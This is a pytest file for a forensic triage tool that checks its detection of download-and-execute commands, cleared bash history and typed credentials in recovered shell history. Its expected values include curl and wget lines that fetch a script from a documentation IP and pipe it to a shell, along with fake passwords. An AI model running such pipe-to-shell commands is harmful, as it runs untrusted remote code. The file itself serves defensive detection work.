"""triage's rules over what was typed, on the history scenario against what its driver typed."""

from __future__ import annotations

import pytest

from checkforensics.analysis.triage import load_context, triage
from checkforensics.analysis.triage.history import DOWNLOAD_EXECUTE, credential_spans
from checkforensics.model import CheckpointModel

from conftest import SCENARIOS, truth

HISTORY = SCENARIOS / "history.tar.zst"
TRUTH = truth("scenarios/history")
BASH, PYTHON = TRUTH["bash_pid"], TRUTH["python_pid"]
TYPED = {t["line"] for t in TRUTH["typed"]}
PASSWORDS = ("CfwFakePass-3e8d", "cfw-fake-9c4b", "cfw-token-4f1e9a")


@pytest.fixture(scope="module")
def findings() -> list:
    with CheckpointModel.open(HISTORY) as model:
        return [f for f in triage(load_context(model, scan_secrets=False)) if f.rule.startswith("history-")]


def test_the_download_run_by_a_shell_is_found_where_it_was_typed(findings: list) -> None:
    (found,) = [f for f in findings if f.rule == "history-download-exec"]
    assert found.pid == BASH and found.techniques == ("T1105", "T1059.004")
    assert found.evidence["command"] == "wget -q -T 1 -t 1 -O- http://203.0.113.50/y.sh | bash"
    assert found.evidence["state"] == "live" and found.evidence["position"] == 2
    assert found.evidence["terminal"] == TRUTH["ptys"]["bash"]


def test_the_cleared_bash_history_is_found_and_the_repl_is_not(findings: list) -> None:
    (found,) = [f for f in findings if f.rule == "history-cleared"]
    assert found.pid == BASH and found.techniques == ("T1070.003",)
    after = [t for t in TRUTH["typed"] if t["program"] == "bash" and t["after_clear"]]
    assert found.evidence["live_entries"] == len(after)
    assert found.evidence["freed_timestamps"] >= 1


def test_credentials_typed_are_found_redacted(findings: list) -> None:
    found = [f for f in findings if f.rule == "history-credential"]
    assert found and {f.pid for f in found} == {BASH}
    assert all(f.techniques == ("T1552.003",) for f in found)
    for finding in found:
        assert not any(secret in str(finding.evidence) for secret in PASSWORDS)
    assert any("-u deploy:cfw…(13 chars)" in f.evidence["command"] for f in found)


def test_the_patterns_on_every_line_typed() -> None:
    downloads = {line for line in TYPED if DOWNLOAD_EXECUTE.search(line)}
    assert downloads == {
        "curl -fsS --max-time 1 http://203.0.113.50/x.sh | sh",
        "wget -q -T 1 -t 1 -O- http://203.0.113.50/y.sh | bash",
    }
    secrets = {line[a:b] for line in TYPED for a, b in credential_spans(line)}
    assert secrets == set(PASSWORDS)
